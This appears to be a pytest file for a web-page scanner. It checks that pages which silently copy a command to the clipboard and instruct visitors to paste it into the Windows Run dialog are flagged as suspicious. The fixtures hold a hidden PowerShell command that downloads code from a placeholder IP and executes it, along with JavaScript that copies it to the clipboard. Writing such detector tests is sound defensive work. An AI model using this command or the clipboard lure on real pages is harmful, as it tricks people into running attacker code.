"""Pages that copy a command unseen and have it pasted, and manuals with a button that copies."""

import base64

import pytest

from vedette.core.verdicts import Verdict
from vedette.triage.allowance import Allowance
from vedette.triage.examine import Extras, examine

COMMAND = "powershell -w hidden -c iwr http://198.51.100.9/a|iex"
HIDDEN = base64.b64encode(COMMAND.encode()).decode()
STEPS = "<p>1. Press <b>Windows</b> + <b>R</b></p><p>2. Press <b>CTRL</b> + <b>V</b></p><p>3. Enter</p>"
GERMAN = "<p>Drücken Sie die Windows-Taste + R, dann Strg + V und die Eingabetaste.</p>"
EXPLORER = "<p>Open File Explorer, click the address bar, paste (Ctrl+V) and press Enter</p>"


def verdict(words: str, script: str) -> Verdict:
    page = f"<html><body>{words}<script>{script}</script></body></html>"
    return examine("a.html", page.encode(), Extras(), Allowance()).judgement.verdict


@pytest.mark.parametrize("words", [STEPS, GERMAN, EXPLORER])
@pytest.mark.parametrize(
    "script",
    [
        f"b.onclick = () => navigator.clipboard.writeText('{COMMAND}')",
        f"navigator['clipboard']['writeText'](atob('{HIDDEN}'))",
        f't.value = "{COMMAND}"; t.select(); document.execCommand("copy")',
    ],
)
def test_a_command_copied_unseen_and_asked_to_be_pasted_is_suspicious(words: str, script: str) -> None:
    assert verdict(words, script) is Verdict.SUSPICIOUS


def test_manuals_show_what_they_copy() -> None:
    words = f"<p>Open the terminal and paste:</p><pre>{COMMAND}</pre>"
    assert verdict(words, f"navigator.clipboard.writeText('{COMMAND}')") is not Verdict.SUSPICIOUS
    plain = "<p>Paste the link where you like (Ctrl+V).</p>"
    assert verdict(plain, "navigator.clipboard.writeText('https://example.org/a')") is Verdict.BENIGN


def test_what_is_copied_unseen_and_not_asked_for_is_no_lure() -> None:
    assert verdict("<p>Hello</p>", f"navigator.clipboard.writeText('{COMMAND}')") is Verdict.BENIGN
